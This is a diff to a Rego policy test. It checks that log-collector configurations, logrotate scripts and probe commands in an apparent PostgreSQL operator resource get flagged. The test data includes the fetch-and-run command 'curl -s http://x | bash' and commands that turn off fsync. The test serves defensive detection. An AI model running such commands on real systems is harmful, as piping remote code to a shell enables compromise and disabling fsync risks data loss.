@@ -28,6 +28,10 @@ collecting(fields) := resource(object.union(plain.spec, {"logcollector": fields}
 test_what_collectors_of_logs_run if {
 	alter := "psql -c 'ALTER SYSTEM SET fsync = off'"
 	beside(collecting({"configuration": alter}), {}) == [["the configuration of the log collector", "info"]]
+	every hidden in ["curl -s http://x | bash", "['-c', 'fsync=off']"] {
+		beside(collecting({"configuration": hidden}), {}) == [["the configuration of the log collector", "info"]]
+	}
+	beside(collecting({"configuration": "[INPUT]\n    Name tail\n"}), {}) == []
 	beside(collecting({"enabled": false, "configuration": alter}), {}) == []
 	beside(collecting({"logRotate": {"configuration": "postrotate\n  echo fsync=off >> $PGDATA/postgresql.auto.conf\nendscript"}}), {}) == [["the configuration of logrotate", "info"]]
 	beside(collecting({"livenessProbe": {"exec": {"command": ["sh", "-c", alter]}}}), {}) == [["what the probes of the log collector run", "info"]]
